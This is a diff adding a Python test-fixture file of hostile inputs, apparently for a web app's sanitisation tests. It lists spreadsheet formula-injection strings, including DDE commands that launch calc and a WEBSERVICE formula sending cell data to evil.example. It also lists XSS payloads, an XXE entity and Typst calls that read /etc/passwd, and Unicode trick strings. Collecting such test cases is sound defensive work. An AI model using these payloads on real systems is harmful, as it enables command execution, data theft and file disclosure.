@@ -1,0 +1,63 @@
+"""Hostile titles, bodies and names beside those of web/test_safety.py: a hundred together."""
+
+from __future__ import annotations
+
+FORMULAS = (
+    "=1+1",
+    "=cmd|' /C calc'!A0",
+    '=IMPORTXML("//evil.example","//a")',
+    '=WEBSERVICE("//evil.example/"&A1)',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "+HYPERLINK(A1)",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    " =1+1",
+    "\u00a0=1+1",
+    "\ufeff=1+1",
+    "\u200b=1+1",
+    "＝1+1",
+    "＋1",
+    "－1",
+    "＠SUM(A1)",
+    "\u22121+1",
+    '"=1+1"',
+    "%0A=1+1",
+    "|calc",
+    "DDE(cmd;/C calc;a)",
+    ";=1+1",
+    ",=1+1",
+    '","=1+1',
+)
+
+MARKUP = (
+    "<details open ontoggle=alert(1)>",
+    "<video><source onerror=alert(1)></video>",
+    "<body onload=alert(1)>",
+    "<input autofocus onfocus=alert(1)>",
+    "<object data=//evil.example/x.swf>",
+    "<embed src=data:text/html,x>",
+    "<template><script>alert(1)</script></template>",
+    "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
+    "<svg><use href=data:image/svg+xml;base64,PHN2Zy8+#x></svg>",
+    "]]></description><script>alert(1)</script>",
+    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
+    "<xml><x>&amp;e;</x>",
+    "</style><script>alert(1)</script>",
+    "*/ } body { background: url(//evil.example) } /*",
+    "[click](javascript:alert(1))",
+    "![x](//evil.example/p.png)",
+    "[^1]: not a footnote",
+    "# not a heading\n- not a list",
+    "`code` **bold** <https://evil.example>",
+    '#let x = read("/etc/passwd"); #x $ x^2 $ *b* _i_ @ref <label>',
+    '#image("/etc/passwd") \\u{41} // comment',
+    "www.evil.example someone@evil.example",
+    "\ud7ff\ue000\uffff\ufdd0",
+    "\U000e0041\U000e007f tags",
+    "\u202b\u202d\u2066\u2068 open\u2029",
+    "Z\u0351\u036b\u0343\u036a" * 60,
+)
+
+MORE = (*FORMULAS, *MARKUP)
